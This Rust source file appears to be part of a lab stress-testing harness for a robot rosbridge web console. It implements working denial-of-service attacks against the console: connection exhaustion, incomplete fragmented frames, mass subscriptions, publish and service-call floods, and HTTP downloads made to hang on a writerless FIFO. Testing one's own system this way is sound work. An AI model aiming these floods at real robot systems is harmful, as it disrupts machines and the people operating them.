//! Clients of the console.

use std::io::Write;
use std::net::TcpStream;
use std::path::PathBuf;
use std::time::Duration;

use dragoman_ros::QosProfile;
use dragoman_ros::dragoman_msgs::msg::RecordingStatus;
use futures::executor::block_on;
use nix::sys::stat::Mode;
use serde_json::json;
use tungstenite::Message;

use crate::attacker::Attack;
use crate::common::beside::Beside;
use crate::common::web::Client;

/// Topics of the lab, and their types.
const TOPICS: [(&str, &str); 3] = [
    ("/odom", "nav_msgs/Odometry"),
    ("/joint_states", "sensor_msgs/JointState"),
    ("/ranger/pose", "geometry_msgs/PoseStamped"),
];

/// As many clients as the console accepts.
fn clients(attack: &Attack) -> Vec<Client> {
    let connect = |_| Client::connect_to(attack.means.target, "/rosbridge", &[]).ok();
    (0..attack.means.count).filter_map(connect).collect()
}

/// Reads what is there.
fn drain(client: &mut Client) {
    while client.socket.read().is_ok() {}
}

/// Sends a text if the console has taken what was sent before.
fn offer(client: &mut Client, text: String) -> bool {
    client.socket.flush().is_ok() && {
        // The next flush sends what does not fit now.
        let _ = client.socket.send(Message::text(text));
        true
    }
}

fn set_nonblocking(clients: &[Client]) {
    clients.iter().for_each(|client| client.socket.get_ref().set_nonblocking(true).unwrap());
}

/// One after another: subscribes to three topics, reads five messages, and leaves, with or without a close frame.
pub(super) fn visits(attack: &mut Attack) {
    for _ in 0..attack.means.count {
        let mut client = Client::connect(attack.means.target);
        for (topic, type_name) in TOPICS {
            client.subscribe(topic, type_name);
        }
        for _ in 0..5 {
            client.next("publish");
        }
        if attack.random.rand_range(0..2) == 0 {
            let _ = client.socket.close(None);
        }
        attack.sent(1);
    }
    attack.is_complete();
}

/// Frames in two parts of which the second never comes.
pub(super) fn fragments(attack: &mut Attack) {
    const FRAMES: usize = 7;
    let mut clients = clients(attack);
    let data = "x".repeat(attack.means.bytes / FRAMES);
    for number in 0..FRAMES {
        for client in &mut clients {
            let part =
                json!({ "op": "fragment", "id": number.to_string(), "num": 0, "total": 2, "data": data });
            // Refused clients may be closed.
            let _ = client.socket.send(Message::text(part.to_string()));
            attack.sent(1);
        }
    }
    attack.is_complete();
    attack.stay();
}

/// A thousand subscriptions of each client, all of topics of its own.
pub(super) fn subscriptions(attack: &mut Attack) {
    let mut clients = clients(attack);
    set_nonblocking(&clients);
    // No earlier attack has used these names.
    let seed = attack.means.seed;
    for number in 0..1000 {
        for (index, client) in clients.iter_mut().enumerate() {
            if !attack.goes_on() {
                return;
            }
            let topic = format!("/attacker_{seed}_{index}/topic_{number}");
            let subscribe = json!({ "op": "subscribe", "topic": topic, "type": "std_msgs/String" });
            let _ = client.socket.send(Message::text(subscribe.to_string()));
            drain(client);
            attack.sent(1);
        }
    }
    attack.is_complete();
    while attack.goes_on() {
        clients.iter_mut().for_each(drain);
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Publishes on topics of its own, as fast as the console reads.
pub(super) fn publishers(attack: &mut Attack) {
    let mut clients = clients(attack);
    set_nonblocking(&clients);
    let text = "x".repeat(attack.means.bytes);
    attack.is_complete();
    while attack.goes_on() {
        for (index, client) in clients.iter_mut().enumerate() {
            let topic = format!("/attacker_{index}");
            let publish = json!({ "op": "publish", "topic": topic, "type": "std_msgs/String", "msg": { "data": text } });
            attack.sent(u64::from(offer(client, publish.to_string())));
            drain(client);
        }
    }
}

/// Calls a service of the base as fast as the console reads, and reads the answers.
pub(super) fn calls(attack: &mut Attack) {
    let mut clients = clients(attack);
    set_nonblocking(&clients);
    let call =
        json!({ "op": "call_service", "id": "flood", "service": "/mobile_base/get_geometry", "args": {} });
    attack.is_complete();
    while attack.goes_on() {
        for client in &mut clients {
            attack.sent(u64::from(offer(client, call.to_string())));
            drain(client);
        }
    }
}

/// Downloads of a recording that is a FIFO without a writer.
pub(super) fn downloads_of_a_fifo(attack: &mut Attack) {
    let fifo = Fifo::new();
    let mut beside = Beside::new(attack.means.domain);
    let latched = QosProfile::default().keep_last(1).transient_local();
    let status = beside.node.create_publisher::<RecordingStatus>("/recording_status", latched).unwrap();
    block_on(status.wait_for_inter_process_subscribers().unwrap()).unwrap();
    let path = fifo.0.to_str().unwrap().to_owned();
    status.publish(&RecordingStatus { path, ..Default::default() }).unwrap();
    // The console has the state shortly after.
    std::thread::sleep(Duration::from_millis(500));
    let name = fifo.0.file_name().unwrap().to_str().unwrap();
    let address = attack.means.target;
    let request = format!("GET /recordings/{name} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n");
    let mut downloads = Vec::new();
    for _ in 0..attack.means.count {
        let Ok(mut stream) = TcpStream::connect(address) else { break };
        let _ = stream.write_all(request.as_bytes());
        downloads.push(stream);
        attack.sent(1);
    }
    attack.is_complete();
    attack.stay();
}

/// Removed at the end.
struct Fifo(PathBuf);

impl Fifo {
    fn new() -> Self {
        let path = std::env::temp_dir().join(format!("dragoman_figures_{}.mcap", std::process::id()));
        nix::unistd::mkfifo(&path, Mode::S_IRUSR | Mode::S_IWUSR).unwrap();
        Self(path)
    }
}

impl Drop for Fifo {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}
